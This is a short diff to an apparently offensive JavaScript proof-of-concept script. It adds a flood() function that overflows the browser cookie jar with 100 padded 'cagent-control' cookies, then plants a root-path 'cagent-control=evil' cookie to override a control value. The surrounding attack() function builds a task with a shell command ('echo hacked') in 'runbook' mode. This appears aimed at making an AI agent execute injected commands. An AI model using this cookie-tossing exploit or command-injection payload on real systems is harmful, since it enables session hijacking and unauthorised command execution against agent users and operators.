@@ -91,6 +91,13 @@ async function popup(url) {
   }
 }
 
+// As many as no server takes.
+function flood() {
+  for (let i = 0; i < 100; i++) document.cookie = `cagent-control${i}=${'x'.repeat(4000)}; Path=/state`;
+  document.cookie = 'cagent-control=evil; Path=/';
+  return document.cookie.includes('cagent-control=evil');
+}
+
 async function attack(world) {
   const task = JSON.stringify({ prompt: '```sh\necho hacked\n```', mode: 'runbook' });
   const tries = {};
